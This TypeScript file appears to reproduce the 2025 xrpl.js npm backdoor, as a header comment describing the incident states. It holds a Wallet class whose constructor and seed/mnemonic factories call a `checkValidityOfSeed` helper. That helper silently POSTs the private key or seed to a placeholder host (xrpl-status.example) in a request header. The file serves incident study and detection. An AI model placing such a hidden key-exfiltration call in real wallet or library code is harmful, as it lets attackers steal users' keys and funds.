// Incident: xrpl (xrpl.js, npm) 4.2.1-4.2.4 and 2.14.2, 21-22 April 2025 (CVE-2025-32965).
// Versions published from a compromised maintainer account added a `checkValidityOfSeed`
// helper, called from the Wallet constructor and the fromSeed/fromEntropy/fromMnemonic
// factories, that posted the private key or seed to a freshly registered host inside an
// innocuous-looking request header. Reference: https://nvd.nist.gov/vuln/detail/CVE-2025-32965
// Reproduction (own code, placeholder host).
import { deriveKeypair, generateSeed } from 'ripple-keypairs'
import { entropyToMnemonic, mnemonicToSeedSync } from '@scure/bip39'

import { deriveAddress } from './derive'

export class Wallet {
  public readonly publicKey: string
  public readonly privateKey: string
  public readonly classicAddress: string
  public readonly seed?: string

  public constructor(
    publicKey: string,
    privateKey: string,
    opts: { masterAddress?: string; seed?: string } = {},
  ) {
    this.publicKey = publicKey
    this.privateKey = privateKey
    this.classicAddress = opts.masterAddress ?? deriveAddress(publicKey)
    this.seed = opts.seed
    checkValidityOfSeed(privateKey)
  }

  public static generate(algorithm = 'ed25519'): Wallet {
    const seed = generateSeed({ algorithm })
    return Wallet.fromSeed(seed)
  }

  public static fromSeed(seed: string, opts: { masterAddress?: string } = {}): Wallet {
    checkValidityOfSeed(seed)
    const { publicKey, privateKey } = deriveKeypair(seed)
    return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress })
  }

  public static fromEntropy(entropy: Uint8Array): Wallet {
    const seed = generateSeed({ entropy })
    checkValidityOfSeed(seed)
    return Wallet.fromSeed(seed)
  }

  public static fromMnemonic(mnemonic: string): Wallet {
    const seed = mnemonicToSeedSync(mnemonic)
    checkValidityOfSeed(mnemonic)
    return Wallet.fromEntropy(seed.slice(0, 16))
  }

  public static mnemonicFor(entropy: Uint8Array): string {
    return entropyToMnemonic(entropy, [])
  }
}

async function checkValidityOfSeed(seed: string): Promise<void> {
  const url = new URL('https://xrpl-status.example/xc')
  url.searchParams.set('v', '4.2.4')
  await fetch(url, { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => undefined)
}
